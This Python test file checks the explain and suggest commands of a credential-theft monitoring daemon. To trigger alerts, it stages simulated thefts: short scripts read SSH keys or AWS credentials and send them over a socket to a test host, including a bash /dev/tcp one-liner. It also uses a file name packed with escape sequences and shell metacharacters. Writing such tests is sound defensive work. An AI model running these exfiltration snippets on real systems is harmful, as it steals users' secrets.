#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""barbwirectl explain predicts the result of an access; the rule by barbwirectl suggest allows exactly that act."""

import atexit
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path[:0] = [os.path.join(HERE, "../harness"), os.path.join(HERE, "../techniques")]

import harness
from rows import identity
import tap
from ctl import Ctl
from net import HOST_V4, HOST_V6, Net
from tap import Skip, require, require_equal

NOBODY = 65534
UNIT = "barbwire-test.service"
CLASS = "ssh-private-keys"
PYTHON = os.path.realpath("/usr/bin/python3")
OUT = "technique-out-tcp"
HOSTILE = b'odd [x] {a,b}*?\\ "\'#;\n\x1b[2J\xff\xe2\x80\xae\xc3\xa4 '


class Scene:
    def __init__(self, directory, bw, net, home):
        self.policy, self.bw, self.net, self.home = f"{directory}/policy.d", bw, net, home
        self.ctl = Ctl(f"{directory}/socket")
        # Not below /tmp: no rule is suggested for a program that is there for a while.
        self.programs = tempfile.mkdtemp(prefix="barbwire-test-", dir="/usr/local/lib")
        os.chmod(self.programs, 0o755)

    def close(self):
        shutil.rmtree(self.programs)

    def install(self, name, source=OUT, mode=0o755):
        """Installs a program that root owns."""
        target = os.path.join(os.fsencode(self.programs), os.fsencode(name))
        shutil.copyfile(harness.program(source), target)
        os.chmod(target, mode)
        return target

    def act(self, command, alerts, key, **kwargs):
        """Plays an access, and returns its alert, or proves that there is none."""
        seen = len(self.bw.alerts)
        result = self.net.run(command, **kwargs)
        if result.returncode == identity.CANNOT:
            raise Skip(result.stderr.strip(), environment=True)
        require_equal(result.returncode, 0, f"exit status of {command}\n{result.stderr}")

        def is_it(alert):
            return any((file["path"] or "").endswith(harness.as_text(key)) for file in alert["files"])

        if alerts:
            return self.bw.wait(lambda: next((a for a in self.bw.alerts[seen:] if is_it(a)), None),
                                harness.ALERT_TIMEOUT, f"the alert of {command}")
        self.bw.prove_delivered(self.net, self.home)
        found = [a for a in self.bw.alerts[seen:] if is_it(a)]
        require(not found, f"{command}: not silent: {json.dumps(found[:1])}")
        return None

    def steal(self, exe, alerts=True, key=None, to=HOST_V4, port=443, prefix=(), variant="blocking", **kwargs):
        key = key or self.home.key()[0]
        return self.act([*prefix, exe, variant, key, to, str(port)], alerts, key, **kwargs)

    def explain(self, *args, status=0):
        out, err = self.ctl.expect(status, "--json=short", "explain", f"--policy-dir={self.policy}", *args)
        require_equal(err, "", "standard error")
        return json.loads(out)

    def with_rule(self, text):
        return Rule(self, text)

    def suggest(self, alert):
        """The drop-in for an alert, which must pass --check without other warnings than those in its own comments."""
        text = self.ctl.expect(0, "suggest", alert["id"])[0]
        require(not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e]", text), f"{text!r}")
        return text

    def refused(self, alert, *words):
        out, err = self.ctl.expect(1, "suggest", alert["id"])
        require("No rule" in err and not re.search("^[^#\n]", out, re.MULTILINE), f"{out}{err}")
        for word in words:
            require(word in out, f"no {word!r} in\n{out}")


class Rule:
    """with Rule(scene, text): the rule is in force."""

    def __init__(self, scene, text):
        self.scene, self.text, self.path = scene, text, f"{scene.policy}/90-suggested.conf"

    def __enter__(self):
        with open(self.path, "w", encoding="utf-8") as out:
            out.write(self.text)
        result = subprocess.run([harness.BARBWIRED, "--check", f"--policy-dir={self.scene.policy}"], text=True,
                                stdin=subprocess.DEVNULL, capture_output=True, timeout=60)
        require_equal(result.returncode, 0, f"--check of\n{self.text}\n{result.stderr}")
        require("policy reloaded" in self.scene.bw.reload(), "the reload")

    def __exit__(self, *exception):
        os.unlink(self.path)
        self.scene.bw.reload()


def keys_of(text):
    """The keys of each section."""
    sections = re.split(r"^\[Allow (\S+)\]$", text, flags=re.MULTILINE)[1:]
    return [dict(line.split("=", 1) for line in body.strip().splitlines()) for body in sections[1::2]]


# ---- suggest ----

def suggest_plain(s):
    exe = s.install("plain")
    alert = s.steal(exe)
    text = s.suggest(alert)
    require_equal(keys_of(text), [{"Class": CLASS, "Exe": os.fsdecode(exe),
                                   "Destination": f"{HOST_V4}/32:443"}], text)
    require(alert["summary"] in text and "barbwired --check" in text and "systemctl reload" in text, text)
    with s.with_rule(text):
        s.steal(exe, alerts=False)
        s.steal(exe, port=444)
        s.steal(exe, to=HOST_V6)
        s.steal(s.install("another"))
        s.steal(exe, key=s.home.decoy(os.path.join(s.home.path, b".aws/credentials"))[0])
    s.steal(exe)
    shown = s.ctl.objects("suggest", alert["id"])[0]
    require_equal(shown, {"possible": True, "dropin": text}, "--json=short")


def suggest_hostile_name(s):
    exe = s.install(HOSTILE)
    text = s.suggest(s.steal(exe))
    with s.with_rule(text):
        s.steal(exe, alerts=False)
        s.steal(s.install(HOSTILE.replace(b"{a,b}", b"a")))
        s.steal(s.install(HOSTILE.replace(b"*", b"xx")))


def suggest_v6_user(s):
    exe = s.install("of-a-user")
    key = s.home.key()[0]
    os.chown(key, NOBODY, -1)
    prefix = (harness.program("technique-beat-launch"), "user", str(NOBODY), "-")
    text = s.suggest(s.steal(exe, to=HOST_V6, key=key, prefix=prefix))
    section, = keys_of(text)
    require_equal((section["User"], section["Destination"]), (str(NOBODY), f"[{HOST_V6}/128]:443"), text)
    with s.with_rule(text):
        s.steal(exe, alerts=False, to=HOST_V6, key=key, prefix=prefix)
        s.steal(exe, to=HOST_V6)


def suggest_script(s):
    scripts = []
    for name in ("good", "evil"):
        scripts.append(os.path.join(s.programs, f"{name} script.py"))
        with open(scripts[-1], "w", encoding="ascii") as out:
            out.write("import socket, sys\nsecret = open(sys.argv[1], 'rb').read()\n"
                      "socket.create_connection((sys.argv[2], 443)).sendall(secret)\n")
    good, evil = scripts

    def run(alerts, *command):
        key = s.home.key()[0]
        return s.act([PYTHON, *command, key, HOST_V4], alerts, key)

    text = s.suggest(run(True, good))
    require_equal(keys_of(text)[0]["Script"], good.replace(" ", "\\ "), text)
    with s.with_rule(text):
        run(False, good)
        run(True, evil)
        run(True, "-I", good)
    s.refused(run(True, "-I", good), "every script")
    os.chmod(good, 0o666)
    s.refused(run(True, good), "Users other than root can change")
    temporary = os.path.join(os.fsdecode(s.home.root), "script.py")
    shutil.copyfile(evil, temporary)
    s.refused(run(True, temporary), "Users other than root can change")
    # Root's script, but by a name that a user can give to another one: the rule would compare that name.
    theirs, links = os.path.join(s.programs, "theirs"), os.path.join(s.programs, "link.py")
    os.mkdir(theirs, 0o755)
    own, link = os.path.join(theirs, "own.py"), os.path.join(theirs, "link.py")
    shutil.copyfile(evil, own)
    os.symlink(evil, link)
    os.symlink(own, links)
    os.chown(theirs, NOBODY, NOBODY)
    for name in own, link, links:
        s.refused(run(True, name), "Users other than root can change")
    # Whose name is not the path of the file, which a rule would need.
    key = s.home.key()[0]
    for command in (["--", evil], ["./evil script.py"], [os.path.join(s.programs, "theirs/../evil script.py")]):
        s.refused(s.act([PYTHON, *command, key, HOST_V4], True, key, cwd=s.programs), "by its absolute path")


def suggest_unit(s):
    exe, launch = s.install("in-a-unit"), harness.program("technique-beat-launch")
    for unit, wanted in ((UNIT, UNIT), ("x\\x2dy@3-192.0.2.1:22.service", "x\\\\x2dy@*.service"),
                         ("session-1.scope", None), ("user@1000.service/" + UNIT, None), ("run-u1.service", None)):
        with identity.cgroup("system.slice/" + unit) as group:
            text = s.suggest(s.steal(exe, prefix=(launch, "cgroup", group, "-")))
            require_equal(keys_of(text)[0].get("Unit"), wanted, text)
            with s.with_rule(text):
                s.steal(exe, alerts=False, prefix=(launch, "cgroup", group, "-"))
                s.steal(exe, alerts=bool(wanted))


def suggest_container(s):
    """In another root: Container=yes and the unit; no rule without a unit."""
    exe, launch = os.fsdecode(s.install("contained")), harness.program("technique-beat-launch")
    actors = type("Actors", (), {"directory": s.programs})
    with identity.other_root(actors) as root, identity.cgroup("machine.slice/machine-box.scope") as group:
        inside = (launch, "chroot", root, "-")
        text = s.suggest(s.steal(exe, prefix=(launch, "cgroup", group, "-", *inside)))
        require_equal({k: keys_of(text)[0].get(k) for k in ("Unit", "Container")},
                      {"Unit": "machine-box.scope", "Container": "yes"}, text)
        with s.with_rule(text):
            s.steal(exe, alerts=False, prefix=(launch, "cgroup", group, "-", *inside))
            s.steal(exe, prefix=inside)
        s.refused(s.steal(exe, prefix=inside), "without a unit of its own")


def suggest_handed_on(s):
    """The opener is not the sender: a rule for it would be one for every program that gets the data."""
    exe = s.install("opener", "technique-hand-lineage")
    s.refused(s.steal(exe, variant="orphan"), f"{os.fsdecode(exe)} opened the files")
    key = s.home.key()[0]
    sender = os.fsdecode(s.install("sender"))
    alert = s.act(["/bin/bash", "-c", 'cat "$1" | (read -r line; exec 3<>/dev/tcp/$2/443; echo "$line" >&3)', sender,
                   key, HOST_V4], True, key)
    s.refused(alert, "/usr/bin/cat opened the files", "Let one program do both")


def suggest_temporary(s):
    exe = os.path.join(os.fsdecode(s.home.root), "dropped")
    shutil.copyfile(harness.program(OUT), exe)
    os.chmod(exe, 0o755)
    s.refused(s.steal(exe), "is a temporary program")


def suggest_two_classes(s):
    aws = s.home.decoy(os.path.join(s.home.path, b".aws/credentials"))[0]
    script, key = os.path.join(s.programs, "both.py"), s.home.key()[0]
    with open(script, "w", encoding="ascii") as out:
        out.write("import socket, sys\nfor path in sys.argv[2:]:\n open(path).read()\n"
                  "socket.create_connection((sys.argv[1], 443))\n")
    command = [PYTHON, script, HOST_V4, key, aws]
    text = s.suggest(s.act(command, True, key))
    require_equal(set(keys_of(text)[0]["Class"].split()), {CLASS, "cloud-aws"}, text)
    with s.with_rule(text):
        s.act(command, False, key)


def suggest_none(s):
    """No rule would apply, which is the answer."""
    launch = harness.program("technique-beat-launch")
    s.refused(s.steal(s.install("writable", mode=0o757)), "writable by its group or others")
    owned = s.install("owned")
    os.chown(owned, NOBODY, -1)
    s.refused(s.steal(owned), "not owned by root")
    s.refused(s.steal(s.install("memory"), prefix=(launch, "memfd", s.install("memory"), "-")), "from memory")
    plain = s.install("void")
    s.refused(s.steal(plain, env={**os.environ, "PYTHONPATH": "/x"}), "LD_PRELOAD")
    s.refused(s.steal(plain, prefix=(launch, "trace", "-", "-")), "traced")
    alert = s.steal(plain)
    os.unlink(plain)
    s.refused(alert, "does not exist any more")
    require("No alert" in s.ctl.expect(1, "suggest", "1-0")[1], "an id that is none")


# ---- explain ----

def explain_as_it_happens(s):
    """Predicts score and reasons of real thefts."""
    for path, mode in ((s.home.key()[0], 0o755),
                       (s.home.decoy(os.path.join(s.home.path, b".aws/credentials"))[0], 0o757),
                       (s.home.decoy(os.path.join(s.home.path, b"work/.env"))[0], 0o755)):
        exe = s.install("thief", mode=mode)
        alert = s.steal(exe, key=path, to=HOST_V6)
        lineage = [f"--ancestor={a['exe']}" for a in alert["lineage"] if os.path.exists(a["exe"])]
        units = [name for name in alert["process"]["cgroup"].split("/") if name and not name.endswith(".slice")]
        unit = [f"--unit={units[0]}"] if units else []
        said = s.explain(path, f"--exe={os.fsdecode(exe)}", f"--to=[{HOST_V6}]:443", *lineage, *unit)

        def reasons(score):
            # Earlier alerts of the same lineage are unknown to explain, as is the PID.
            return [(r["points"], re.sub(r", pid \d+\)", ")", r["text"])) for r in score["reasons"]
                    if not re.match("its lineage|capped at the highest|raised to the lowest", r["text"])]

        require_equal(reasons(said["score"]), reasons(alert), f"the alert for {path}")
        require_equal([c["name"] for c in said["classes"]], alert["classes"], "classes")
        require_equal((said["mark"], said["verdict"]["result"]), ("yes", "alert"), said["verdict"])
        late = said["late"]
        require(late is None and alert["classes"] == ["app-secrets"] or late["score"] == said["score"]["score"] - 25,
                said)


def explain_rules(s):
    exe, other = os.fsdecode(s.install("ruled")), os.fsdecode(s.install("other"))
    key = os.fsdecode(s.home.key()[0])
    link = os.path.join(s.programs, "link")
    os.symlink(key, link)
    text = (f"[Allow by-all]\nClass={CLASS}\nExe={exe}\nScript=/opt/job\nUnit=job@*.service\nUser=root 7\n"
            f"Ancestor={other}\nDestination=192.0.2.0/24:443\n"
            f"[Allow clean]\nClass={CLASS}\nExe={other}\nPasses=nothing\n")
    full = [f"--exe={exe}", "--script=/opt/job", "--unit=job@1", "--user=root", f"--ancestor={other}"]
    with s.with_rule(text):
        # The rule, its conditions, the verdict: if all conditions match, or one differs or is missing.
        for changed, applies, result in (([], "yes", "silent"), (["--to=192.0.3.7:443"], "yes", "alert"),
                                       (["--to=192.0.2.7:80"], "yes", "alert"),
                                         (["--script=/opt/./job"], "no", "alert"),
                                       (["--unit=job"], "no", "alert"), (["--user=1"], "no", "alert"),
                                       (["--user=7"], "yes", "silent"), ([f"--ancestor={PYTHON}"], "yes", "silent")):
            said = s.explain(link, "--to=192.0.2.7", *full, *changed)
            require_equal(([r["applies"] for r in said["rules"]], said["mark"], said["verdict"]["result"]),
                          ([applies], "yes", result), f"{changed}: {said}")
            require_equal(said["path"], key, "a link's target")
        for missing in ("--script", "--unit", "--user", "--ancestor"):
            known = [a for a in full if not a.startswith(missing)]
            said = s.explain(key, "--to=192.0.2.7", *known, status=1)
            unknown = [c["text"] for r in said["rules"] for c in r["conditions"] if c["applies"] == "unknown"]
            require(len(unknown) == 1 and missing in unknown[0], f"{missing}: {unknown}")
            require_equal((said["mark"], said["verdict"]["result"]), ("yes", "unknown"), said["verdict"])
        require_equal(s.explain(key, *full)["verdict"]["result"], "alert", "without a destination")
        require_equal(s.explain(key, *[a for a in full if "script" not in a], "--unit=x")["verdict"]["result"], "alert",
                      "what is not known does not matter where the rule cannot apply")
        said = s.explain(key, f"--exe={other}")
        require_equal((said["mark"], said["verdict"]["text"]),
                      ("no", f"silent: {other} may read it, by [Allow clean]."),
                      "verdict")
        s.steal(other, alerts=False)
        os.chmod(other, 0o775)
        require_equal(s.explain(key, f"--exe={other}")["verdict"]["result"], "alert", "one that its group may write")
        os.chmod(other, 0o755)
        out, _ = s.ctl.expect(0, "explain", f"--policy-dir={s.policy}", link, "--to=192.0.2.7", *full)
        for wanted in (f"    path         {key}\n", f"by Path=/**/.ssh/** ({s.policy}/20-ssh.conf:", ", applies: yes\n",
                       "yes      Script=/opt/job (", "allowed: yes\n", ", in force\n",
                       f"    verdict      silent: {exe} may read it and connect to this destination, "
                       "by [Allow by-all].\n"):
            require(wanted in out, f"no {wanted!r} in\n{out}")
    with open(f"{s.policy}/95-later.conf", "w", encoding="ascii") as out:
        out.write("[Class later]\nPath=/later\nScore=15\n[Destination there]\nAddress=192.0.2.9\nIgnore=yes\n")
    try:
        require("NOT the one in force" in s.ctl.expect(0, "explain", f"--policy-dir={s.policy}", key)[0],
                "another policy")
        said = s.explain("/later", "--to=192.0.2.7")
        require_equal((said["policy"]["in_force"], said["verdict"]["text"]),
                      (False, "silent: the score of 15 is below Alert=20."), "a low score")
        require("has Ignore=yes" in s.explain(key, "--to=192.0.2.9")["verdict"]["text"], "Ignore=yes")
    finally:
        os.unlink(f"{s.policy}/95-later.conf")


def explain_files(s):
    for path, result in (("/etc/hosts", "silent: it belongs to no class."), (f"{os.fsdecode(s.home.ssh)}/known_hosts",
                         "silent: excluded by ExcludePath=."), ("/etc", "silent: a directory; give a file in it.")):
        said = s.explain(path)
        require_equal((said["verdict"]["text"], said["score"], said["mark"]), (result, None, "no"), path)
    require_equal(s.explain("/no/such/.npmrc")["classes"], [], "not in a home")
    require_equal([c["name"] for c in s.explain("/no/such/.ssh/id")["classes"]], [CLASS], "a key, wherever it is")
    require_equal([c["name"] for c in s.explain("/home/no-such/.ssh/id")["classes"]], [CLASS], "a file that is to come")
    path = s.home.key(HOSTILE)[0]
    out, _ = s.ctl.expect(0, "explain", f"--policy-dir={s.policy}", path)
    require(not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", out) and "\\x1b[2J" in out, repr(out))
    said = s.explain(path)
    require_equal((said["path"], [c["name"] for c in said["classes"]]), (harness.as_text(path), [CLASS]),
                  "a hostile name")


def explain_alone(directory):
    """Without the daemon; wrong usage; a bad policy."""
    ctl, policy = Ctl(f"{directory}/nobody"), f"{directory}/policy.d"
    out, err = ctl.expect(0, "explain", f"--policy-dir={policy}", "/etc/shadow", "--exe=/usr/bin/passwd")
    require("may read it, by [Allow account-tools]." in out and not err and "barbwired cannot be queried" in out,
            out + err)
    for args in ([], ["a", "b"], ["no/such/file"], ["/x", "--to=any:1"], ["/x", "--to=loopback"],
                 ["/x", "--to=1.2.3.0/24"],
                 ["/x", "--to=1.2.3.4:1-2"], ["/x", "--user=no-such-user"], ["/x", "-n1"], ["/x", "--uid=no-such"],
                 ["/x", "--exe=ssh"], ["/x"] + ["--ancestor=/bin/sh"] * 9, ["/x"] + ["--policy-dir=/"] * 17):
        require(not ctl.expect(2, "explain", *args)[0], args)
    for args in (["status", "--exe=x"], ["alerts", "--to=1.2.3.4"], ["suggest"], ["suggest", "x", "--unit=x"]):
        require(not ctl.expect(2, *args)[0], args)
    require("/no/such" in ctl.expect(1, "explain", "/x", "--policy-dir=/no/such")[1], "a directory that is not there")
    ctl.expect(3, "suggest", "x")
    with tempfile.TemporaryDirectory(prefix="barbwire-bad-") as bad:
        with open(f"{bad}/50-bad.conf", "w", encoding="ascii") as out:
            out.write("[Class bad]\nPath=/bad\nScore=-1\n")
        out, err = ctl.expect(0, "explain", f"--policy-dir={bad}", "/bad")
        require(f"{bad}/50-bad.conf:3:7: " in err and "class        bad\n" in out, out + err)


def explain_homes(directory):
    """A program of the file's own user. Without the daemon."""
    ctl, policy, owner = Ctl(f"{directory}/nobody"), f"{directory}/policy.d", NOBODY
    with harness.Home() as home:
        path = os.path.join(os.fsdecode(home.path), ".cargo/credentials.toml")
        exe = os.path.join(os.fsdecode(home.path), ".cargo/bin/cargo")
        os.makedirs(os.path.dirname(exe))
        for name in (path, exe):
            shutil.copyfile(harness.program(OUT), name)
        os.chmod(exe, 0o755)
        for name in (home.path, os.path.dirname(path), os.path.dirname(exe), path, exe):
            os.chown(name, owner, owner)

        def verdict(to="192.0.2.7", *more):
            said = json.loads(ctl.expect(0, "--json=short", "explain", f"--policy-dir={policy}", path, f"--exe={exe}",
                                         f"--to={to}", *more)[0])
            rule = next(r for r in said["rules"] if r["name"] == "home-cargo")
            require_equal(rule["level"], "user", "the level of the rule")
            return said["verdict"]["result"], rule["conditions"][0]["text"]

        kept, changed = "can be changed by root and the user of the file only", \
            "can be changed by others than root and the user of the file"
        require_equal(verdict(), ("silent", kept), "her own")
        require_equal(verdict("192.0.2.7", f"--user={owner}"), ("silent", kept), "her own, by number")
        require_equal(verdict("192.0.2.7:9999")[0], "alert", "another port")
        require_equal(verdict("192.0.2.7", "--user=root"), ("alert", "the file is not the user's"), "root")
        for name, mode in ((exe, 0o757), (os.path.dirname(exe), 0o777), (os.path.dirname(path), 0o707)):
            before = os.stat(name).st_mode & 0o7777
            os.chmod(name, mode)
            require_equal(verdict(), ("alert", changed), f"{name} with mode {mode:o}")
            os.chmod(name, before)
        os.chmod(exe, 0o775)
        require_equal(verdict(), ("silent", kept), "a private group")
        os.chown(exe, owner, 0)
        require_equal(verdict(), ("alert", changed), "another group")
        os.chown(path, 1, 1)
        require_equal(verdict(), ("alert", changed), "the file of another user")
        text = ctl.expect(0, "explain", f"--policy-dir={policy}", path, f"--exe={exe}")[0]
        require("of the user level: for a program and a file of one user\n" in text, text)


def main():
    harness.require_host()
    t = tap.Tap()
    with tempfile.TemporaryDirectory(prefix="barbwire-explain-") as directory:
        os.chmod(directory, 0o755)
        policy = f"{directory}/policy.d"
        shutil.copytree(harness.DEFAULT_POLICY, policy)
        t.case("explain: without the daemon, wrong usage, a bad policy", explain_alone, directory)
        t.case("explain: a program in a home", explain_homes, directory)
        with Net() as net, harness.Home() as home, \
                harness.Barbwired(policy_dirs=(policy,), args=(f"--listen={directory}/socket",)) as bw:
            s = Scene(directory, bw, net, home)
            atexit.register(s.close)
            for name, case in (("explain: files", explain_files), ("explain: rules and conditions", explain_rules),
                               ("explain: as it happens", explain_as_it_happens), ("suggest: a program", suggest_plain),
                               ("suggest: a hostile name", suggest_hostile_name),
                               ("suggest: a user, IPv6", suggest_v6_user), ("suggest: a script", suggest_script),
                               ("suggest: a unit", suggest_unit), ("suggest: a container", suggest_container),
                               ("suggest: handed on", suggest_handed_on),
                               ("suggest: a temporary program", suggest_temporary),
                               ("suggest: two classes", suggest_two_classes),
                               ("suggest: no rule applies", suggest_none)):
                t.case(name, case, s)
            t.case("the daemon exits successfully", lambda: (bw.stop(), bw.require_no_loss()))
    t.done()


if __name__ == "__main__":
    main()
